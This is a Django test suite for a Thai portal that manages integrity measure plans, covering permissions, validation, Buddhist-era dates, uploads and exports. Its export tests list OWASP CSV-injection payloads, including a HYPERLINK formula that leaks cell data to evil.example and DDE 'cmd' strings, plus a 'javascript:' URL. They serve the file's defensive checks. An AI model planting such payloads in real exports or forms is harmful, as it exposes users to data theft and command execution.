"""Plan and measure pages: building a plan, concurrent edits, follow-up, isolation."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from itaportal.accounts.models import AuditEvent
from measures.models import Measure, MeasurePlan, Progress
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

IN_FY_2566 = dt.datetime(2023, 2, 15, 10, tzinfo=dt.UTC)


def measure_post(**overrides: object) -> dict[str, object]:
    data: dict[str, object] = {
        "title": "มาตรการป้องกันการรับสินบน",
        "indicators": ["1", "3"],
        "method": "ประกาศ No Gift Policy",
        "responsible_unit": "งานนิติการ",
        "other_people": "นิติกร",
        "start": "2023-01",
        "end": "2023-06",
        "follow_up": "รายงานในที่ประชุมหัวหน้าส่วนทุกเดือน",
        "cadence": "monthly",
        "expected_result": "ไม่มีเรื่องร้องเรียน",
        "status": "not_started",
    }
    data.update(overrides)
    return data


def text_of(html: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


def field_error(html: str, name: str) -> str:
    """The error shown under one field of the form."""
    found = re.search(rf'id="id_{name}_error" class="invalid-feedback">(.*?)</div>', html, re.S)
    return text_of(found.group(1)) if found else ""


def plan_urls(plan: MeasurePlan, measure: Measure, progress: Progress, suggestion_id: int) -> dict:
    org, year = plan.organisation_id, plan.fiscal_year
    return {
        "plan_list": reverse("measures:plan_list", args=[org]),
        "plan_detail": reverse("measures:plan_detail", args=[org, year]),
        "analysis": reverse("measures:analysis_edit", args=[org, year]),
        "measure_new": reverse("measures:measure_new", args=[org, year]),
        "suggestion_add": reverse("measures:suggestion_add", args=[org, year, suggestion_id]),
        "copy_forward": reverse("measures:copy_forward", args=[org, year]),
        "export_csv": reverse("measures:plan_export", args=[org, year, "csv"]),
        "export_xlsx": reverse("measures:plan_export", args=[org, year, "xlsx"]),
        "measure_detail": reverse("measures:measure_detail", args=[measure.pk]),
        "measure_edit": reverse("measures:measure_edit", args=[measure.pk]),
        "measure_delete": reverse("measures:measure_delete", args=[measure.pk]),
        "evidence": reverse("measures:evidence", args=[measure.pk, progress.pk]),
    }


URL_NAMES = [
    "plan_list", "plan_detail", "analysis", "measure_new", "suggestion_add", "copy_forward",
    "export_csv", "export_xlsx", "measure_detail", "measure_edit", "measure_delete", "evidence",
]  # fmt: skip


def snapshot() -> list[object]:
    return [
        list(Measure.objects.order_by("pk").values()),
        list(Progress.objects.order_by("pk").values("pk", "done")),
        list(MeasurePlan.objects.order_by("pk").values_list("pk", "fiscal_year")),
        AuditEvent.objects.exclude(object_type="").count(),  # changes, not logins or refusals
    ]


@pytest.mark.parametrize("name", URL_NAMES)
def test_it_hides_every_plan_url_from_an_outsider(
    plan, measure, progress, suggestion, outsider, name
):
    url = plan_urls(plan, measure, progress, suggestion.pk)[name]
    before = snapshot()
    client = client_for(outsider)
    post_only = name in ("suggestion_add", "copy_forward")
    assert client.get(url).status_code == (405 if post_only else 404)
    assert client.post(url, measure_post()).status_code == 404
    assert snapshot() == before


@pytest.mark.parametrize("name", URL_NAMES)
def test_it_sends_anonymous_visitors_to_log_in(plan, measure, progress, suggestion, name):
    response = client_for(None).get(plan_urls(plan, measure, progress, suggestion.pk)[name])
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize(
    "name",
    ["analysis", "measure_new", "suggestion_add", "copy_forward", "measure_edit", "measure_delete"],
)
def test_it_lets_a_reviewer_read_but_not_change_the_plan(
    plan, measure, progress, suggestion, reviewer, name
):
    before = snapshot()
    url = plan_urls(plan, measure, progress, suggestion.pk)[name]
    assert client_for(reviewer).post(url, measure_post()).status_code == 403
    assert snapshot() == before
    assert (
        client_for(reviewer)
        .get(plan_urls(plan, measure, progress, suggestion.pk)["plan_detail"])
        .status_code
        == 200
    )


def test_it_starts_a_plan_and_lists_the_indicators_to_cover(assessed_org, staff, suggestion):
    client = client_for(staff)
    response = client.post(
        reverse("measures:plan_list", args=[assessed_org.pk]), {"fiscal_year": "๒๕๖๖"}
    )
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    assert page.count('class="text-danger small fw-semibold uncovered"') == 10  # 8 urgent + 2 raise
    assert "ทดสอบ: คู่มือการยืมทรัพย์สินของราชการ" in page  # suggested under indicator 4
    assert "๑๐ ตัวชี้วัดยังไม่มีมาตรการ" in page


def test_it_refuses_a_second_plan_for_the_same_year(plan, staff):
    response = client_for(staff).post(
        reverse("measures:plan_list", args=[plan.organisation_id]), {"fiscal_year": "2566"}
    )
    assert response.status_code == 200
    assert "มีแผนของปีนี้แล้ว" in response.content.decode()
    assert MeasurePlan.objects.count() == 1


def test_it_copies_a_suggestion_into_the_plan(plan, staff, suggestion):
    url = reverse("measures:suggestion_add", args=[plan.organisation_id, 2566, suggestion.pk])
    response = client_for(staff).post(url)
    measure = plan.measures.get()
    assert response["Location"] == reverse("measures:measure_edit", args=[measure.pk])
    assert measure.indicators == [4] and measure.responsible_unit == "กองคลัง"
    page = client_for(staff).get(reverse("measures:plan_detail", args=[plan.organisation_id, 2566]))
    assert page.content.decode().count("fw-semibold uncovered") == 9


def test_it_adds_a_measure_with_owners_and_a_timeline(plan, staff, reviewer):
    url = reverse("measures:measure_new", args=[plan.organisation_id, 2566])
    response = client_for(staff).post(url, measure_post(owners=[str(reviewer.pk)]))
    assert response.status_code == 302
    measure = plan.measures.get()
    assert list(measure.owners.all()) == [reviewer]
    assert measure.timeline_text == "ม.ค. – มิ.ย. ๒๕๖๖"
    assert measure.indicators == [1, 3]


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"title": ""}, "title", "ฟิลด์นี้จำเป็น"),
        ({"indicators": []}, "indicators", "กรุณาเลือกตัวชี้วัดอย่างน้อย ๑ ตัว"),
        ({"indicators": ["11"]}, "indicators", "๑๑ ไม่ใช่ตัวเลือกที่ใช้ได้"),
        ({"start": "2023-06", "end": "2023-01"}, "end", "เดือนสิ้นสุดอยู่ก่อนเดือนเริ่มต้น"),
        ({"start": "2023-01", "end": ""}, "end", "กรุณาเลือกทั้งสองเดือน"),
        ({"start": "2024-01"}, "start", "๒๐๒๔-๐๑ ไม่ใช่ตัวเลือกที่ใช้ได้"),  # outside FY 2566
        ({"start": "๒๐๒๓-๐๑"}, "start", "๒๐๒๓-๐๑ ไม่ใช่ตัวเลือกที่ใช้ได้"),  # not one of the months
        ({"status": "finished"}, "status", "finished ไม่ใช่ตัวเลือกที่ใช้ได้"),
        ({"title": "ก" * 301}, "title", "กรุณากรอกไม่เกิน ๓๐๐ ตัวอักษร (ขณะนี้มี ๓๐๑ ตัวอักษร)"),
    ],
)
def test_it_refuses_a_bad_measure_and_saves_nothing(plan, staff, overrides, field, message):
    before = snapshot()
    url = reverse("measures:measure_new", args=[plan.organisation_id, 2566])
    response = client_for(staff).post(url, measure_post(**overrides))
    html = response.content.decode()
    assert response.status_code == 200
    assert message in field_error(html, field)
    assert "ไม่มีการบันทึก" in html
    assert snapshot() == before


def test_it_refuses_the_second_of_two_concurrent_edits(measure, staff, db):
    from tests.conftest import make_user

    colleague = make_user("colleague", organisation=measure.plan.organisation, role="staff")
    url = reverse("measures:measure_edit", args=[measure.pk])
    mine = client_for(staff).get(url).context["form"]
    theirs = client_for(colleague).get(url).context["form"]
    assert mine.initial["version"] == theirs.initial["version"] == 1
    first = client_for(colleague).post(url, measure_post(title="ฉบับของเพื่อน", version="1"))
    assert first.status_code == 302
    client = client_for(staff)
    second = client.post(url, measure_post(title="ฉบับของฉัน", version="1"), follow=True)
    assert "มีผู้อื่นบันทึกมาตรการนี้" in second.content.decode()
    measure.refresh_from_db()
    assert measure.title == "ฉบับของเพื่อน" and measure.version == 2
    assert 'value="ฉบับของเพื่อน"' in second.content.decode()  # the page shows their version


def test_it_asks_before_deleting_a_measure_with_progress_and_keeps_an_audit(
    measure, progress, staff
):
    client = client_for(staff)
    url = reverse("measures:measure_delete", args=[measure.pk])
    page = client.get(url).content.decode()
    assert 'id="progress-warning"' in page
    assert Measure.objects.filter(pk=measure.pk).exists()
    response = client.post(url)
    assert response.status_code == 302
    assert not Measure.objects.filter(pk=measure.pk).exists()
    entry = AuditEvent.objects.get(action=AuditEvent.Action.DELETE)
    assert entry.user == staff and measure.title in entry.summary
    assert entry.before is not None and "ประชุมชี้แจง" in entry.before["progress"][0]


@time_machine.travel(IN_FY_2566, tick=False)
def test_it_records_follow_up_and_starts_the_measure(measure, reviewer):
    measure.owners.add(reviewer)  # an owner records follow-up even without an editing role
    url = reverse("measures:measure_detail", args=[measure.pk])
    response = client_for(reviewer).post(
        url, {"date": "๒๐๒๓-๐๒-๑๐", "done": "ประกาศแล้ว", "outcome": "ครบถ้วน"}
    )
    assert response.status_code == 302
    progress = measure.progress.get()
    assert progress.date == dt.date(2023, 2, 10) and progress.recorded_by == reviewer
    measure.refresh_from_db()
    assert measure.status == "in_progress"


@time_machine.travel(IN_FY_2566, tick=False)
@pytest.mark.parametrize("typed", ["๑๐ ก.พ. ๒๕๖๖", "10 กุมภาพันธ์ 2566", "10/02/2566"])
def test_it_records_follow_up_dated_the_thai_way_and_shows_it_in_the_buddhist_era(
    measure, staff, typed
):
    url = reverse("measures:measure_detail", args=[measure.pk])
    client = client_for(staff)
    response = client.post(url, {"date": typed, "done": "ประกาศแล้ว"})
    assert response.status_code == 302
    assert measure.progress.get().date == dt.date(2023, 2, 10)
    assert "๑๐ กุมภาพันธ์ ๒๕๖๖" in client.get(url).content.decode()


@time_machine.travel(IN_FY_2566, tick=False)
def test_it_refuses_follow_up_from_someone_who_is_neither_owner_nor_staff(measure, reviewer):
    url = reverse("measures:measure_detail", args=[measure.pk])
    response = client_for(reviewer).post(url, {"date": "2023-02-10", "done": "x"})
    assert response.status_code == 403
    assert not measure.progress.exists()


@time_machine.travel(IN_FY_2566, tick=False)
@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"date": "2023-02-30", "done": "x"}, "เช่น ๑๕ พ.ย. ๒๕๖๙ หรือ 15/11/2569"),
        ({"date": "2024-01-01", "done": "x"}, "อนาคต"),
        ({"date": "2023-02-01", "done": ""}, "จำเป็น"),
        ({"date": "2023-02-01", "done": "x", "evidence_url": "javascript:alert(1)"}, "URL"),
    ],
)
def test_it_refuses_bad_follow_up(measure, staff, data, message):
    response = client_for(staff).post(reverse("measures:measure_detail", args=[measure.pk]), data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not measure.progress.exists()


@time_machine.travel(dt.datetime(2025, 6, 1, 9, tzinfo=dt.UTC), tick=False)
@pytest.mark.parametrize("date", ["2568-02-29", "๒๕๖๘-๐๒-๒๙", "2564-02-29", "2560-02-29"])
def test_it_refuses_a_buddhist_era_29_february_of_a_common_year(measure, staff, date):
    # B.E. 2568, 2564 and 2560 are divisible by 4, but 2025, 2021 and 2017 have no 29 February
    url = reverse("measures:measure_detail", args=[measure.pk])
    response = client_for(staff).post(url, {"date": date, "done": "ประชุมชี้แจง"})
    assert response.status_code == 200
    assert "กรุณากรอกวันที่ เช่น ๑๕ พ.ย. ๒๕๖๙" in field_error(response.content.decode(), "date")
    assert not measure.progress.exists()


@time_machine.travel(dt.datetime(2025, 6, 1, 9, tzinfo=dt.UTC), tick=False)
@pytest.mark.parametrize("date", ["2567-02-29", "๒๕๖๗-๐๒-๒๙"])
def test_it_accepts_29_february_of_a_buddhist_era_leap_year(measure, staff, date):
    url = reverse("measures:measure_detail", args=[measure.pk])
    response = client_for(staff).post(url, {"date": date, "done": "ประชุมชี้แจง"})
    assert response.status_code == 302
    assert measure.progress.get().date == dt.date(2024, 2, 29)


@time_machine.travel(IN_FY_2566, tick=False)
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("report.exe", b"MZ\x90\x00", "กรุณาแนบไฟล์ PDF, JPG, PNG, DOCX หรือ XLSX"),
        ("report.pdf", b"MZ\x90\x00 not a pdf", "เนื้อหาของไฟล์ไม่ตรงกับชนิดไฟล์ตามนามสกุล"),
        ("big.pdf", b"%PDF-" + b"0" * (10 * 1024 * 1024), "ไฟล์มีขนาดเกิน ๑๐ MB"),
    ],
)
def test_it_limits_evidence_uploads(measure, staff, name, content, message):
    upload = SimpleUploadedFile(name, content)
    response = client_for(staff).post(
        reverse("measures:measure_detail", args=[measure.pk]),
        {"date": "2023-02-01", "done": "x", "evidence_file": upload},
    )
    assert message in field_error(response.content.decode(), "evidence_file")
    assert not measure.progress.exists()


@time_machine.travel(IN_FY_2566, tick=False)
def test_it_serves_evidence_only_inside_the_organisation(
    measure, staff, outsider, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    upload = SimpleUploadedFile("minutes.pdf", b"%PDF-1.4 minutes")
    client_for(staff).post(
        reverse("measures:measure_detail", args=[measure.pk]),
        {"date": "2023-02-01", "done": "x", "evidence_file": upload},
    )
    progress = measure.progress.get()
    url = reverse("measures:evidence", args=[measure.pk, progress.pk])
    response = client_for(staff).get(url)
    assert b"".join(response.streaming_content) == b"%PDF-1.4 minutes"
    assert client_for(outsider).get(url).status_code == 404


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


@time_machine.travel(IN_FY_2566, tick=False)
@pytest.mark.parametrize("name", [".png", "scan", "ภาพถ่าย"])
def test_it_stores_evidence_named_without_a_stem_or_an_extension_as_png(
    measure, staff, settings, tmp_path, name
):
    settings.MEDIA_ROOT = tmp_path
    client_for(staff).post(
        reverse("measures:measure_detail", args=[measure.pk]),
        {"date": "2023-02-01", "done": "x", "evidence_file": SimpleUploadedFile(name, PNG)},
    )
    progress = measure.progress.get()
    assert progress.evidence_file.name.endswith(".png")
    assert (tmp_path / progress.evidence_file.name).read_bytes() == PNG
    response = client_for(staff).get(reverse("measures:evidence", args=[measure.pk, progress.pk]))
    assert b"".join(response.streaming_content) == PNG
    assert response["Content-Disposition"].rstrip('"').endswith(".png")


@time_machine.travel(dt.datetime(2023, 4, 2, 9, tzinfo=dt.UTC), tick=False)
def test_it_shows_an_overdue_measure(measure, staff):
    page = (
        client_for(staff)
        .get(reverse("measures:plan_detail", args=[measure.plan.organisation_id, 2566]))
        .content.decode()
    )
    row = re.search(rf'<tr data-measure="{measure.pk}">(.*?)</tr>', page, re.S).group(1)
    assert "เลยกำหนด: พ้นระยะเวลาดำเนินการ" in text_of(row)  # it was to end in March 2566
    summary = re.search(r'id="overdue-summary">(.*?)</div>\s*</div>', page, re.S).group(1)
    assert text_of(summary) == "เลยกำหนด ๑"


def test_it_copies_last_years_unfinished_measures_once(plan, measure, staff):
    from measures.services import plan_create

    next_plan = plan_create(organisation=plan.organisation, fiscal_year=2567)
    Measure.objects.create(plan=plan, title="เสร็จแล้ว", indicators=[1], status="done")
    url = reverse("measures:copy_forward", args=[plan.organisation_id, 2567])
    client_for(staff).post(url)
    client_for(staff).post(url)
    copied = next_plan.measures.get()
    assert copied.title == measure.title and copied.status == "not_started"
    assert copied.start_month == dt.date(2024, 1, 1)


def test_it_exports_the_plan_as_csv(plan, measure, progress, staff):
    response = client_for(staff).get(
        reverse("measures:plan_export", args=[plan.organisation_id, 2566, "csv"])
    )
    text = response.content.decode("utf-8-sig")
    assert "มาตรการเผยแพร่ข้อมูลต่อสาธารณะ" in text and "ม.ค. – มี.ค. ๒๕๖๖" in text


def test_it_exports_the_plan_as_xlsx(plan, measure, progress, staff):
    response = client_for(staff).get(
        reverse("measures:plan_export", args=[plan.organisation_id, 2566, "xlsx"])
    )
    header, *rows = load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
    [row] = [dict(zip(header, values, strict=True)) for values in rows]
    assert (row["org_name"], row["fiscal_year"], row["based_on_year"]) == (
        "เทศบาลตำบลบางเก่า", 2566, 2565,
    )  # fmt: skip
    assert (row["title"], row["indicators"]) == ("มาตรการเผยแพร่ข้อมูลต่อสาธารณะ", "9 10")
    assert row["timeline_text"] == "ม.ค. – มี.ค. ๒๕๖๖"
    assert (row["progress_count"], row["last_progress_done"]) == (1, "ประชุมชี้แจง")


# OWASP's CSV injection prefixes, and their full-width forms.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(1+9)",
]


@pytest.fixture
def formula_measures(plan):
    return [
        Measure.objects.create(plan=plan, order=n, title=title, indicators=[n % 10 + 1])
        for n, title in enumerate(FORMULAS, start=1)
    ]


def test_it_exports_titles_that_look_like_formulas_as_text_in_xlsx(formula_measures, staff):
    response = client_for(staff).get(
        reverse(
            "measures:plan_export", args=[formula_measures[0].plan.organisation_id, 2566, "xlsx"]
        )
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in next(sheet.iter_rows())]
    titles = [row[header.index("title")] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in titles] == FORMULAS
    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
    years = [row[header.index("fiscal_year")] for row in sheet.iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in years} == {(2566, "n")}  # numbers stay numbers


def test_it_exports_titles_that_look_like_formulas_behind_an_apostrophe_in_csv(
    formula_measures, staff
):
    response = client_for(staff).get(
        reverse(
            "measures:plan_export", args=[formula_measures[0].plan.organisation_id, 2566, "csv"]
        )
    )
    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    assert [row[header.index("title")] for row in rows] == ["'" + f for f in FORMULAS]
    assert [row[header.index("order")] for row in rows] == [str(n) for n in range(1, 11)]


def test_it_shows_a_person_the_measures_they_own(measure, reviewer, staff):
    measure.owners.add(reviewer)
    assert (
        measure.title in client_for(reviewer).get(reverse("measures:my_measures")).content.decode()
    )
    assert (
        measure.title not in client_for(staff).get(reverse("measures:my_measures")).content.decode()
    )


def test_it_edits_the_analysis(plan, staff):
    url = reverse("measures:analysis_edit", args=[plan.organisation_id, 2566])
    data = {f"{c}_{k}": f"{c} {k}" for c in ("IIT", "EIT", "OIT") for k in ("strengths", "issues")}
    assert client_for(staff).post(url, data).status_code == 302
    assert plan.analyses.get(instrument="EIT").issues == "EIT issues"


def test_it_names_the_items_a_measure_answers_from_the_plans_framework(plan, staff):
    from reports.documents.builders import build
    from tests.conftest import snapshot

    client = client_for(staff)
    url = reverse("measures:measure_new", args=[plan.organisation_id, 2566])
    form = text_of(client.get(url).content.decode())
    assert "๑๐. การป้องกันการทุจริต" in form
    assert "o๓๒ มาตรการส่งเสริมคุณธรรมและความโปร่งใสภายในหน่วยงาน" in form  # FY 2566's o32
    before = snapshot()
    unknown = client.post(url, measure_post(indicators=["9", "10"], items=["o32", "o99"]))
    assert "กรอบการประเมินของปีงบประมาณ พ.ศ. ๒๕๖๖ ไม่มีข้อ o99" in field_error(
        unknown.content.decode(), "items"
    )
    assert snapshot() == before

    saved = client.post(url, measure_post(indicators=["9", "10"], items=["o32", "o12"]))
    assert saved.status_code == 302
    assert plan.measures.get().items == ["o12", "o32"]  # in the framework's order
    page = client.get(reverse("measures:plan_detail", args=[plan.organisation_id, 2566]))
    assert "ข้อ o๑๒, ข้อ o๓๒" in text_of(page.content.decode())
    exported = client.get(reverse("measures:plan_export", args=[plan.organisation_id, 2566, "csv"]))
    [row] = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
    assert row["items"] == "o12 o32" and row["indicators"] == "9 10"
    printed = text_of(build("plan", plan.organisation, 2566).html())
    assert "ตัวชี้วัดที่ ๙, ๑๐; ข้อ o๑๒, ข้อ o๓๒" in printed


def test_it_copies_forward_the_items_the_new_years_framework_has_and_says_which_it_dropped(
    assessed_org, staff
):
    from measures.services import plan_create

    old = plan_create(organisation=assessed_org, fiscal_year=2568)
    Measure.objects.create(plan=old, title="เผยแพร่ข้อมูล", indicators=[9, 10], items=["o12", "o32"])
    plan_create(organisation=assessed_org, fiscal_year=2569)
    url = reverse("measures:copy_forward", args=[assessed_org.pk, 2569])
    page = text_of(client_for(staff).post(url, follow=True).content.decode())
    copied = Measure.objects.get(plan__fiscal_year=2569)
    assert copied.items == ["o12"]  # FY 2569's OIT has 26 items: no o32
    assert "กรอบการประเมินของปีนี้ไม่มีข้อดังกล่าว: เผยแพร่ข้อมูล (o๓๒)" in page
